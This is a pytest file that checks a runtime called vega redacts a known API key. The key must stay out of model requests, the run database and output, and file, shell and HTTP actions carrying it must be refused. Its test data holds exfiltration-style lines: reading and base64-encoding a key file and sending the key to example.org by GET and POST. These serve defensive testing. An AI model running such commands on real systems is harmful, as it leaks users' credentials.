"""Keys that this machine knows reach neither a model nor the store of a run."""

from __future__ import annotations

import asyncio

import pytest

from lyra.testing.mock import MockServer
from tests.cli.vega_runner import Vega, vega

__all__ = ["vega"]

KEY = "xyz-SECRETKEY-0123456789"
LEAK = """\
agent A { model "claude-sonnet-4-20250514" }
agent M { model "claude-sonnet-4-20250514" memory conversation }
let a = spawn A;
let m = spawn M;
let t = "token " + "xyz-SECRET" + "KEY-0123456789";
print(a <- "key: " + t);
print(m <- "again: " + t);
for piece in a <~ "streamed: " + t { print(piece); }
print("read: " + t);
"""


def test_a_known_key_stays_where_it_is(vega: Vega):
    vega.write("leak.vega", LEAK)

    async def main() -> None:
        async with MockServer({"replies": [{"text": "heard"}]}) as server:
            env = {**server.env, "ANTHROPIC_API_KEY": KEY}
            done = await asyncio.to_thread(vega.within, env, "run", "leak.vega", "--db", "run.db", "--run-id", "r")
            assert (done.returncode, done.stdout) == (0, "heard\nheard\nheard\nread: token ***\n"), done
            asked = repr(list(server.requests))
            assert "token ***" in asked
            assert KEY not in asked

    asyncio.run(main())
    for path in vega.folder.glob("run.db*"):
        assert KEY.encode() not in path.read_bytes()


def test_a_key_of_the_users_own_file_is_known_too(vega: Vega):
    config = vega.folder.parent / "home/.config/lyra"
    config.mkdir(parents=True)
    (config / "lyra.toml").write_text(f'[providers.other]\nbase_url = "http://localhost:1"\napi_key = "{KEY}"\n')
    source = LEAK.replace("memory conversation", "").replace("claude-sonnet-4-20250514", "sim/echo", 1)
    vega.write("leak.vega", "\n".join(source.splitlines()[:6]))
    done = vega("run", "leak.vega", "--db", "run.db", "--run-id", "r")
    assert (done.returncode, done.stdout) == (0, "key: token ***\n"), done


ACTS = {
    "read": 'file::read("keyfile.txt")',
    "copy": 'file::write("copy.txt", file::read("keyfile.txt"))',
    "write": 'file::write("copy.txt", KEY)',
    "append": 'file::append("copy.txt", KEY)',
    "path": 'file::write(KEY, "x")',
    "exec": 'run("touch ran; echo " + KEY)',
    "exec, as a pattern": 'run("rm -f " + KEY)',
    "output": 'run("cat keyfile.txt")',
    "output in base64": 'run("base64 -w0 keyfile.txt")',
    "get": 'http::get("http://example.org/?k=" + KEY)',
    "post": 'http::post("http://example.org/", KEY)',
    "env": 'env::get("HOLDS_KEY")',
}


@pytest.mark.parametrize("act", ACTS)
def test_a_program_acts_with_what_it_said_or_not_at_all(vega: Vega, act: str):
    """A key is not replaced in what is read, written, run or sent: the act is refused, and a program can catch that."""
    vega.write("keyfile.txt", f"token {KEY}")
    vega.write("kept.txt", "kept")
    source = f"""\
tool run(line: str) -> str capabilities [process::exec] allowed_commands ["cat", "base64", "rm", "touch"] {{
    return exec(line);
}}
let KEY = "xyz-SECRET" + "KEY-0123456789";
try {{
    let done = {ACTS[act]};
    print("done");
}} catch Error(reason) {{
    print(reason);
}}
"""
    vega.write("act.vega", source)
    env = {"ANTHROPIC_API_KEY": KEY, "HOLDS_KEY": f"user:{KEY}"}
    for _ in range(2):  # the second time from the journal
        done = vega.within(env, "run", "act.vega", "--db", "run.db", "--run-id", "r")
        assert done.returncode == 0, done
        assert "holds a key" in done.stdout
        assert KEY not in done.stdout + done.stderr
    assert sorted(path.name for path in vega.folder.iterdir() if not path.name.startswith("run.db")) == [
        "act.vega",
        "kept.txt",
        "keyfile.txt",
    ]
    for path in vega.folder.glob("run.db*"):
        assert KEY.encode() not in path.read_bytes()
